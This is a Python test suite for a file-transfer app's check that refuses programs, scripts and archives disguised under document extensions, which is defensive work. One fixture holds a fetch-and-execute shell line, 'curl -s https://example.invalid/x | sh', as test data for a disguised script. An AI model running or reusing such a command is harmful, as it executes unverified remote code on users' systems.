"""True file types: a program, a script or an archive under the name of
another type is refused, through the form, over tus and in replies.

The senders walk the wizard and post as a browser (or the page's script)
does; what is left in the store and the audit trail is looked at from
outside. The rule itself (app/true_types.py) is tried on its own at the
end, on the files an operator's default list allows.
"""

from __future__ import annotations

import bz2
import gzip
import io
import struct
import tarfile
import zipfile

import pytest

from app.crypto.stream import SEGMENT_SIZE
from app.settings import ConfigError, load_settings
from app.true_types import ARCHIVE, PROGRAM, SCRIPT, disguise

from . import blobs
from .test_scanning import _events, _stored, at_files_step
from .test_tus import TusSender
from .walker import Person, Sender, text_of

MESSAGE = "Zie bijlage, met vriendelijke groet"
PDF = (
    b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
    b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
)
TEXT = "Naam;Adres;Woonplaats\nJan Jansen;Markt 1;Assen\n".encode()


def windows_program(size: int = 3 * SEGMENT_SIZE + 100) -> bytes:
    """The start of a Windows program as linkers write it: the DOS header
    pointing at the PE header, the DOS stub, then code."""
    dos = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48))
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    head = bytes(dos) + stub.ljust(0x80 - len(dos), b"\0") + b"PE\0\0\x64\x86"
    return head + bytes(range(256)) * ((size - len(head)) // 256 + 1)


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(1000)


def zip_of(members: dict[str, bytes]) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return archive.getvalue()


def word_document() -> bytes:
    """A .docx as Word writes it: a ZIP whose first member is [Content_Types].xml."""
    return zip_of({
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document><w:body><w:p>Verslag</w:p></w:body></w:document>',
    })


def tar_gz() -> bytes:
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as tar:
        member = tarfile.TarInfo("verslag.txt")
        member.size = len(TEXT)
        tar.addfile(member, io.BytesIO(TEXT))
    return archive.getvalue()


def _refused_type(name: str, kind: str) -> str:
    """What the sender reads: what the file is, and what to do."""
    ext = name.rpartition(".")[2]
    if kind == ARCHIVE:
        return (f"“{name}” was not added: it is an archive (such as a ZIP file), not the .{ext} file its name says. "
                "Give it an archive's extension (such as .zip), or add the files in it.")
    what = {PROGRAM: "a program", SCRIPT: "a script"}[kind]
    return (f"“{name}” was not added: it is {what}, not the .{ext} file its name says. "
            "If you did not expect that, do not open it: it may be harmful.")


# The form upload.


@blobs.BOTH_STORES
def test_a_windows_program_named_pdf_is_refused_and_leaves_nothing(make_app, mailbox) -> None:
    app = make_app()
    sender = at_files_step(app, mailbox)
    program = windows_program()
    page = sender.files([("verslag.pdf", PDF), ("factuur.pdf", program)], message=MESSAGE)
    assert page.status_code == 422
    text = text_of(page)
    assert _refused_type("factuur.pdf", PROGRAM) in text
    assert MESSAGE in text
    # The real PDF is in; of the program neither a row nor its ciphertext stays.
    (kept,) = _stored(app)
    assert blobs.leftovers(app) == [kept.blob_key]
    (event,) = _events(app, "file_type_mismatch")
    assert event.actor == sender.person.email and event.transfer_id
    assert event.data == {"extension": "pdf", "content": PROGRAM, "size": len(program)}
    assert "factuur" not in str(event.data)


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("foto.jpg", ELF, PROGRAM),
        ("scan.png", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(500), PROGRAM),  # Mach-O
        ("verslag.pdf", zip_of({"factuur.pdf.exe": windows_program(2000)}), ARCHIVE),
        ("foto.png", gzip.compress(TEXT), ARCHIVE),
        ("lijst.txt", b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n", SCRIPT),
        ("notities.txt", windows_program(5000), PROGRAM),
    ],
    ids=["elf-as-jpg", "mach-o-as-png", "zip-as-pdf", "gzip-as-png", "shell-script-as-txt", "windows-program-as-txt"],
)
def test_programs_scripts_and_archives_under_other_names_are_refused(
    make_app, mailbox, name: str, content: bytes, kind: str
) -> None:
    app = make_app()
    sender = at_files_step(app, mailbox)
    page = sender.files([(name, content)], message=MESSAGE)
    assert page.status_code == 422 and _refused_type(name, kind) in text_of(page)
    assert _stored(app) == [] and blobs.leftovers(app) == []
    (event,) = _events(app, "file_type_mismatch")
    assert event.data["content"] == kind


def test_files_that_are_what_their_names_say_go_in(make_app, mailbox) -> None:
    app = make_app()
    sender = at_files_step(app, mailbox)
    files = [
        ("verslag.pdf", PDF),
        ("brief.docx", word_document()),
        ("lijst.txt", TEXT),
        ("stukken.zip", zip_of({"a.pdf": PDF})),
        ("archief.tgz", tar_gz()),
        ("data.bz2", bz2.compress(TEXT)),
        ("data.gz", gzip.compress(TEXT)),
        # Content the detector does not know is let in: the scanner is there for what it hides.
        ("onbekend.pdf", bytes(range(256)) * 10),
        # A name without an extension claims no type.
        ("programma", windows_program(5000)),
    ]
    assert sender.files(files, message=MESSAGE).status_code == 302
    assert len(_stored(app)) == len(files)
    assert not _events(app, "file_type_mismatch")


def test_with_the_check_off_a_renamed_program_goes_in(make_app, mailbox) -> None:
    app = make_app({"transfer": {"check_content_type": False}})
    sender = at_files_step(app, mailbox)
    assert sender.files([("factuur.pdf", windows_program())]).status_code == 302
    assert len(_stored(app)) == 1
    assert not _events(app, "file_type_mismatch")


def test_the_sender_reads_the_refusal_in_their_language(make_app, mailbox) -> None:
    app = make_app()
    sender = at_files_step(app, mailbox)
    sender.get("/lang/nl?next=/send/files")
    page = sender.files([("factuur.pdf", windows_program())], message=MESSAGE)
    assert ("“factuur.pdf” is niet toegevoegd: het is een programma, geen .pdf-bestand zoals de naam zegt. "
            "Verwachtte u dat niet, open het dan niet: het kan schadelijk zijn.") in text_of(page)


def test_a_wrong_check_content_type_names_its_key() -> None:
    with pytest.raises(ConfigError, match=r"^transfer\.check_content_type:"):
        load_settings(None, {"transfer": {"check_content_type": "yes"}})


# Resumable uploads (tus).


@blobs.BOTH_STORES
def test_over_tus_a_renamed_program_is_refused_whatever_its_first_request_carried(make_app, mailbox) -> None:
    app = make_app()
    tus = TusSender(app, mailbox).ready()
    program = windows_program()
    location = tus.create(len(program), name="factuur.pdf").headers["Location"]
    # One byte: nothing of a segment is kept, so nothing can be judged on it.
    first = tus.patch(location, 0, program[:1])
    assert first.status_code == 204 and first.headers["Upload-Offset"] == "0"
    second = tus.patch(location, 0, program[:SEGMENT_SIZE])
    assert second.status_code == 204 and second.headers["Upload-Offset"] == str(SEGMENT_SIZE)
    rest = tus.patch(location, SEGMENT_SIZE, program[SEGMENT_SIZE:])
    assert rest.status_code == 422
    assert rest.json["error"] == _refused_type("factuur.pdf", PROGRAM)
    assert tus.head(location).status_code == 404
    assert _stored(app) == [] and blobs.leftovers(app) == []
    (event,) = _events(app, "file_type_mismatch")
    assert event.data == {"extension": "pdf", "content": PROGRAM, "size": len(program)}


def test_over_tus_a_real_document_goes_in(make_app, mailbox) -> None:
    app = make_app()
    tus = TusSender(app, mailbox).ready()
    document = word_document()
    location = tus.create(len(document), name="brief.docx").headers["Location"]
    assert tus.patch(location, 0, document[:1]).headers["Upload-Offset"] == "0"
    assert tus.patch(location, 0, document).status_code == 204
    (stored,) = _stored(app)
    assert stored.size == len(document)


# Replies.


def test_a_reply_with_a_renamed_program_is_refused_like_any_upload(make_app, mailbox) -> None:
    app = make_app()
    anna = Sender(app, mailbox).replier(Person(name="Anna Jansen", email="anna@gemeente.example"))
    answer = anna.files([("antwoord.pdf", windows_program())], message=MESSAGE)
    assert answer.status_code == 422 and _refused_type("antwoord.pdf", PROGRAM) in text_of(answer)
    (event,) = _events(app, "file_type_mismatch")
    assert event.actor == "anna@gemeente.example"
    assert len(_stored(app)) == 1  # the first transfer's file alone


# The rule, on its own.

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@pytest.mark.parametrize(
    ("name", "head", "found"),
    [
        # OLE2 is a .doc, an .xls and a .ppt, and an .msi too: the name decides.
        ("begroting.xls", OLE2, None),
        ("presentatie.pps", OLE2, None),
        ("verslag.pdf", OLE2, PROGRAM),
        # An archive may have any archive's name, the ZIP-based documents' included.
        ("tabel.ods", zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), None),
        ("archief.zip", b"7z\xbc\xaf'\x1c\x00\x04" + bytes(100), None),
        # A signature further in cannot vouch for a program: an OpenDocument's "text" at byte 73.
        ("brief.odt", windows_program(2000)[:73] + b"text" + bytes(100), PROGRAM),
        # Signatures that tell nothing: "text" at byte 73 of any text, Python's "import ".
        ("notities.txt", b"Gewone tekst, met op byte 73 het woord ".ljust(73, b".") + b"text erin.\n", None),
        ("notities.txt", b"import van gegevens uit het oude systeem\n", None),
        # A shebang makes a script, whatever follows.
        ("run.sh", b"#!/bin/sh\necho\n", None),
        ("README.TXT", b"#!/usr/bin/env python3\n", SCRIPT),
        # The extension's case does not matter.
        ("FOTO.JPG", ELF, PROGRAM),
        ("setup.EXE", windows_program(2000), None),
        ("leeg.pdf", b"", None),
    ],
)
def test_the_rule(name: str, head: bytes, found: str | None) -> None:
    assert disguise(name, head) == found
